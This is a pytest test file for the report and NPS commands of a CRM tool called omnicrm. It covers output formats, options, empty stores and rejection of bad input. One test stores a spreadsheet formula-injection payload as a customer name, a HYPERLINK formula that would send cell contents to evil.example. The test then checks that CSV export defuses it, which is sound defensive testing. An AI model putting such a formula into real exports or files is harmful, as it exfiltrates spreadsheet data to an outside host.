"""``omnicrm report``, ``omnicrm nps``: formats, options, empty stores and bad input."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from omnicrm.cli._common import Context
from omnicrm.cli.nps import nps_group
from omnicrm.cli.report import report_group
from omnicrm.core.channels import DEFAULT_SHOP
from omnicrm.core.store import Store
from omnicrm.crm.segments import define
from tests.crm.analytics.shop import add_profile, jst, order, write_orders
from tests.crm.analytics.test_nps import GOOD
from tests.crm.analytics.test_scoring import simulate


@pytest.fixture
def config(tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("COLUMNS", "200")
    path = tmp_path / "omnicrm.toml"
    path.write_text(
        f'[store]\nurl = "{store.url.render_as_string(hide_password=False)}"\n', encoding="utf-8"
    )
    return path


def report(config: Path, *args: str) -> Result:
    return CliRunner().invoke(report_group, list(args), obj=Context(config), catch_exceptions=False)


def nps(config: Path, *args: str) -> Result:
    return CliRunner().invoke(nps_group, list(args), obj=Context(config), catch_exceptions=False)


@pytest.fixture
def two_customers(store: Store) -> Store:
    """A: 10 Jan and 20 Feb 2024 (41 days apart); B: 31 Jan only. Plus a store order."""
    with store.engine.begin() as conn:
        add_profile(conn, "a", family_name="山田", given_name="花子")
        add_profile(conn, "b")
    write_orders(
        store,
        [
            order("a1", "a", jst(2024, 1, 10), "1000.5"),
            order("a2", "a", jst(2024, 2, 20), 2000, channel="pos"),
            order("b1", "b", jst(2024, 1, 31), 600),
        ],
    )
    return store


ALL = ("ltv", "cohorts", "repeat", "f2", "retention", "aov", "interval", "clv", "nps")


def test_empty_store_says_no_data_and_exits_0(config: Path) -> None:
    for name in ALL:
        result = report(config, name)
        assert result.exit_code == 0, (name, result.output)
        assert "no data yet" in result.output, name
    as_json = report(config, "ltv", "--format", "json")
    assert as_json.exit_code == 0
    assert json.loads(as_json.stdout)["rows"] == []


def test_formats(config: Path, two_customers: Store) -> None:
    table = report(config, "ltv", "--as-of", "2024-06-30")
    assert table.exit_code == 0, table.output
    assert "山田 花子" in table.output and "3,000.5" in table.output

    as_csv = report(config, "repeat", "--format", "csv", "--as-of", "2024-06-30")
    assert as_csv.exit_code == 0, as_csv.output
    assert list(csv.reader(io.StringIO(as_csv.stdout))) == [
        ["cohort", "customers", "repeaters", "repeat rate"],
        ["all", "2", "1", "0.5"],
        ["2024-01", "2", "1", "0.5"],
    ]
    as_json = json.loads(report(config, "aov", "--format", "json", "--as-of", "2024-06-30").stdout)
    overall = as_json["rows"][0]
    assert overall == {
        "by": "overall",
        "group": "all",
        "orders": 3,
        "revenue": "3600.5",
        "AOV": "1200.17",
    }


def test_options(config: Path, two_customers: Store) -> None:
    # A's second purchase came 41 days after the first: within a 41-day window, not 40.
    def f2(window: str) -> list[object]:
        out = report(config, "f2", "--window", window, "--format", "json", "--as-of", "2024-12-31")
        assert out.exit_code == 0, out.output
        return [r["F2 rate"] for r in json.loads(out.stdout)["rows"]]

    assert f2("41") == [0.5, 0.5]
    assert f2("40") == [0.0, 0.0]
    retention = report(
        config, "retention", "--months", "2", "--format", "csv", "--as-of", "2024-12-31"
    )
    # The month headers start with '+', which a spreadsheet runs as a formula (=+1 shows
    # 1): they are quoted like any such cell, and show as "+1".
    assert retention.stdout.splitlines() == ["cohort,customers,'+1,'+2", "2024-01,2,0.5,0.0"]
    # As of the end of 31 January, A's February purchase has not happened yet.
    early = report(config, "ltv", "--format", "json", "--as-of", "2024-01-31")
    assert [r["spend"] for r in json.loads(early.stdout)["rows"]] == ["1000.5", "600"]
    # Before the 31st has begun, B has not bought anything yet.
    earlier = report(config, "ltv", "--format", "json", "--as-of", "2024-01-30 23:59")
    assert len(json.loads(earlier.stdout)["rows"]) == 1

    bad = report(config, "f2", "--window", "0")
    assert bad.exit_code == 2 and "window_days" in bad.output
    bad_date = report(config, "ltv", "--as-of", "last week")
    assert bad_date.exit_code == 2 and "not a date or time" in bad_date.output


def test_clv_fit_and_report(config: Path, store: Store) -> None:
    simulate(store, 60, seed=5)
    before = report(config, "clv")
    assert before.exit_code == 0 and "no CLV model fitted yet" in before.output
    fitted = report(config, "clv", "--fit", "--limit", "3")
    assert fitted.exit_code == 0, fitted.output
    assert "CLV fit of shop default: fitted on 60 customers" in fitted.output
    assert "BG/NBD r=" in fitted.output and "top 10%" in fitted.output
    as_csv = report(config, "clv", "--format", "csv", "--limit", "3").stdout
    tables = as_csv.split("\n\n")
    assert len(tables) == 2 and len(tables[0].splitlines()) == 4
    assert tables[1].splitlines()[0] == "decile,customers,from,to,mean,share of total"


def test_nps_import_and_summary_per_segment(config: Path, store: Store, tmp_path: Path) -> None:
    with store.engine.begin() as conn:
        add_profile(conn, email="hanako@example.jp", phone="+819012345678", prefecture="東京都")
        add_profile(conn, email="taro@example.jp", prefecture="大阪府")
        define(conn, "tokyo", "prefecture = '東京都'", shop=DEFAULT_SHOP)
    path = tmp_path / "answers.csv"
    path.write_text(GOOD, encoding="utf-8")
    imported = nps(config, "import", str(path), "--source", "may")
    assert imported.exit_code == 0, imported.output
    assert "6 answer(s) read - 6 new" in imported.output and "3 unmatched" in imported.output

    shown = nps(config, "summary", "--segment", "tokyo", "--format", "json")
    assert shown.exit_code == 0, shown.output
    rows = json.loads(shown.stdout)["rows"]
    assert [(r["segment"], r["responses"], r["NPS"]) for r in rows] == [
        ("all responses", 6, 0.0),
        ("tokyo", 2, 100.0),
    ]
    assert report(config, "nps", "--segment", "tokyo").exit_code == 0
    unknown = nps(config, "summary", "--segment", "tokio")
    assert unknown.exit_code == 2 and "no segment named 'tokio'" in unknown.output

    bad = tmp_path / "bad.csv"
    bad.write_text("response_id,email,score,responded_at\nq1,hanako@example.jp,11,2024-05-01\n")
    refused = nps(config, "import", str(bad))
    assert refused.exit_code == 2
    assert f"{bad}:2:score: not a score from 0 to 10: '11'" in refused.output


def test_csv_cannot_carry_a_formula(config: Path, store: Store) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with store.engine.begin() as conn:
        add_profile(conn, "a", family_name=formula, given_name="@SUM(1)")
    write_orders(store, [order("a1", "a", jst(2024, 1, 10), 1000)])
    out = report(config, "ltv", "--format", "csv", "--as-of", "2024-06-30")
    assert out.exit_code == 0, out.output
    rows = list(csv.reader(io.StringIO(out.stdout)))
    assert rows[1][1].startswith("'=HYPERLINK(")
    assert not any(c.startswith(("=", "+", "-", "@")) for row in rows for c in row)


def test_nps_import_refuses_a_hostile_file_with_exit_2_and_no_traceback(
    config: Path, tmp_path: Path
) -> None:
    header = "response_id,email,score,responded_at,comment\n"
    euc = tmp_path / "euc.csv"
    euc.write_bytes((header + "R-1,a@example.com,9,2024-05-01,最高でした\n").encode("euc_jp"))
    nul = tmp_path / "nul.csv"
    nul.write_text(header + "R-1,a@example.com,9,2024-05-01,ok\x00\n", encoding="utf-8")
    for path, message in [
        (euc, f"{euc}:2: the file looks like EUC-JP"),
        (nul, f"{nul}:2:comment: control character U+0000"),
    ]:
        result = nps(config, "import", str(path))
        assert result.exit_code == 2, result.output
        assert message in result.output and "Traceback" not in result.output
